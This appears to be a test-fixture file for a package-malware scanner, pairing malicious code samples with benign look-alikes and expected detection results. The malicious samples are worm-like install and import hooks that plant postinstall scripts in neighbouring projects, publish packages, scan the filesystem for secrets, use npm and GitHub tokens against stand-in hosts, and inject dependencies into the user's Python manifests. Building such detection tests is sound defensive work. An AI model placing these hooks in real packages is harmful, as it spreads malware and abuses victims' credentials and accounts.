import type { Samples } from '../contract.ts';
import { at, HOOK_LINE, hooked, imported, installed, quiet, wheel } from '../samples-kit.ts';

export const samples: Samples = {
  malicious: [
    {
      name: 'projects beside the one in which it runs, through other modules',
      files: imported(
        `const fs = require('fs'), path = require('path');\nconst gift = require('./gift.js');\nfunction* all(base) {\n  for (const name of fs.readdirSync(base)) yield path.join(base, name);\n}\nfunction give(dir) {\n  const file = path.join(dir, 'package.json');\n  fs.writeFileSync(path.join(dir, gift.name), gift.text);\n  fs.writeFileSync(file, JSON.stringify(gift.add(JSON.parse(fs.readFileSync(file, 'utf8')))));\n}\nexports.tag = (cwd) => { for (const dir of all(path.dirname(cwd))) give(dir); };\n`,
        {
          'gift.js': `module.exports = {\n  name: 'check.js',\n  text: '',\n  add(pkg) { pkg.scripts = { ...pkg.scripts, postinstall: 'node check.js' }; return pkg; },\n};\n`,
        },
      ),
      expected: [at('planted-script', 'high', 'index.js', 9)],
    },
    {
      name: 'packages that are looked for, with a copy of a file',
      files: installed(
        `const fs = require('fs'), path = require('path');\nconst found = fs.readdirSync('..').map((name) => path.join('..', name, 'package.json'));\nfor (const file of found) {\n  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n  fs.copyFileSync(path.join(__dirname, 'shim.txt'), path.join(path.dirname(file), 'shim.js'));\n  const next = { ...pkg, scripts: { ...pkg.scripts, install: 'node shim.js' } };\n  fs.writeFileSync(file, JSON.stringify(next, null, 2) + '\\n');\n}\n`,
      ),
      expected: [at('planted-script', 'critical', 'setup.js', 7)],
    },
    {
      name: 'packages published by a hook',
      files: installed(
        `const { execSync } = require('child_process');\nfor (const dir of ['a', 'b']) execSync('npm publish --access public', { cwd: dir });\n`,
      ),
      expected: [at('publish', 'critical', 'setup.js', 2)],
    },
    {
      name: 'in the hook',
      files: hooked('npm version patch && npm publish'),
      expected: [at('publish', 'critical', 'package.json', HOOK_LINE)],
    },
    {
      name: 'at import, with arguments apart',
      files: imported(
        `const cp = require('child_process');\ncp.spawnSync('npm', ['publish', '--access', 'public']);\n`,
      ),
      expected: [at('publish', 'high', 'index.js', 2)],
    },
    {
      name: 'a scanner for secrets',
      files: installed(
        `const cp = require('child_process');\ncp.execFileSync('./trufflehog', ['filesystem', '/', '--json']);\n`,
      ),
      expected: [at('secret-scanner', 'critical', 'setup.js', 2)],
    },
    {
      name: 'the account behind a token',
      files: installed(
        `const token = /_authToken=(\\S+)/.exec(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'))[1];\nfetch('https://registry.weir.test/-/whoami', { headers: { authorization: 'Bearer ' + token } });\n`,
      ),
      expected: [at('account', 'high', 'setup.js', 2)],
    },
    {
      name: "a repository in the victim's name",
      files: installed(
        `const headers = { authorization: 'token ' + process.env.GITHUB_TOKEN };\nfetch('https://api.weir.test/user/repos', { method: 'POST', headers, body: '{"name":"x"}' });\n`,
      ),
      expected: [at('account', 'high', 'setup.js', 2)],
    },
    {
      name: 'Python: the projects of the user',
      files: {
        ...wheel('from .stamp import everywhere\neverywhere()\n'),
        'own/stamp.py':
          "import os\nNAMES = {'requirements.txt'}\ndef find(base):\n    for at, _, files in os.walk(os.path.expanduser(base)):\n        for name in NAMES.intersection(files):\n            yield os.path.join(at, name)\ndef everywhere(base='~'):\n    for path in find(base):\n        with open(path, 'a') as out:\n            out.write('\\nown>=1\\n')\n",
      },
      expected: [at('manifests', 'high', 'own/__init__.py', 2), at('manifests', 'high', 'own/stamp.py', 10)],
    },
    {
      name: 'Python: the projects of the user, by their paths',
      files: wheel(
        "from pathlib import Path\nfor path in Path.home().rglob('pyproject.toml'):\n    path.write_text(path.read_text().replace('dependencies = [', 'dependencies = [\"own\", '))\n",
      ),
      expected: [at('manifests', 'high', 'own/__init__.py', 3)],
    },
  ],
  benign: [
    quiet(
      'a tool that adds a script of any name to the packages of a folder',
      imported(
        `const fs = require('fs'), path = require('path');\nexports.add = (base, script) => {\n  for (const name of fs.readdirSync(base)) {\n    const file = path.join(base, name, 'package.json');\n    const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n    fs.copyFileSync(file, file + '.bak');\n    pkg.scripts = { ...pkg.scripts, [script.name]: script.line };\n    fs.writeFileSync(file, JSON.stringify(pkg));\n  }\n};\n`,
      ),
    ),
    quiet(
      'a tool that adds a script which runs when somebody builds',
      imported(
        `const fs = require('fs'), path = require('path');\nexports.add = (base, script) => {\n  for (const name of fs.readdirSync(base)) {\n    const file = path.join(base, name, 'package.json');\n    const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n    fs.copyFileSync(file, file + '.bak');\n    pkg.scripts = { ...pkg.scripts, build: 'tsc -b' };\n    fs.writeFileSync(file, JSON.stringify(pkg));\n  }\n};\n`,
      ),
    ),
    quiet(
      'a tool that sets up the project that it is called in',
      imported(
        `const fs = require('fs');\nexports.init = () => {\n  const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n  pkg.scripts = { ...pkg.scripts, postinstall: 'patches apply' };\n  fs.writeFileSync('package.json', JSON.stringify(pkg));\n  fs.writeFileSync('patches/readme.md', fs.readdirSync('patches').join());\n};\n`,
      ),
    ),
    quiet(
      'Python: a tool that pins what the project in its folder needs',
      wheel(
        "import os\nfrom pathlib import Path\nfor path in Path('.').rglob('requirements.txt'):\n    path.write_text(path.read_text().lower())\n",
      ),
    ),
    quiet(
      'Python: a function that pins what the projects in a folder need',
      wheel(
        "from pathlib import Path\ndef pin(base):\n    for path in Path(base).rglob('requirements.txt'):\n        path.write_text(path.read_text().lower())\n",
      ),
    ),
    quiet(
      'Python: projects of the user that are counted',
      wheel(
        "from pathlib import Path\nCOUNT = sum(1 for path in Path.home().glob('*/pyproject.toml') if path.read_text())\n",
      ),
    ),
    quiet(
      'a release tool',
      imported(
        `const { execSync } = require('child_process');\nexports.release = () => execSync('npm publish');\n`,
      ),
    ),
    quiet('a release script that install never runs', {
      ...imported('module.exports = 1;\n'),
      'package.json': JSON.stringify(
        { name: 'sample', version: '1.0.0', scripts: { release: 'npm publish' } },
        null,
        2,
      ),
    }),
    quiet(
      'a client of the registry',
      imported(
        `exports.whoami = (token) => fetch('https://registry.weir.test/-/whoami', { headers: { authorization: 'Bearer ' + (token || process.env.NPM_TOKEN) } });\n`,
      ),
    ),
  ],
};
